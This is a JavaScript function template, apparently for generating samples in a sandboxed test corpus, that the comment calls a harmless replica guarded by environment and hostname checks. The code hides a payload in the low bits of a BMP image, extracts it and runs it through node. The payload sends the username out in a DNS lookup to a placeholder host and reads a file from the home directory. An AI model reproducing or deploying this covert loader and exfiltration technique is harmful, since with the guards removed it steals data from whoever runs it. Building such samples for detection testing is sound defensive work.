// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const code = "require('dns').lookup(require('os').userInfo().username + '.{{token}}.{{host}}', () => {}); require('fs').readFileSync(require('os').homedir() + '/{{file}}');";
    try {
        const bits = [...Buffer.from(code + '\0')].flatMap((byte) => [7, 6, 5, 4, 3, 2, 1, 0].map((at) => (byte >> at) & 1));
        const pixels = Buffer.from(bits.map((bit, at) => ((at * 37) & 0xfe) | bit));
        const head = Buffer.alloc(54);
        head.write('BM');
        head.writeUInt32LE(54, 10);
        fs.writeFileSync('{{token}}.bmp', Buffer.concat([head, pixels]));
        const image = fs.readFileSync('{{token}}.bmp').subarray(54);
        let text = '';
        for (let at = 0; at + 8 <= image.length; at += 8) {
            const byte = image.subarray(at, at + 8).reduce((sum, pixel) => sum * 2 + (pixel & 1), 0);
            if (byte === 0) break;
            text += String.fromCharCode(byte);
        }
        require('child_process').spawnSync(process.execPath, ['-e', text], { stdio: 'ignore', timeout: 2000 });
        fs.unlinkSync('{{token}}.bmp');
    } catch {}
}
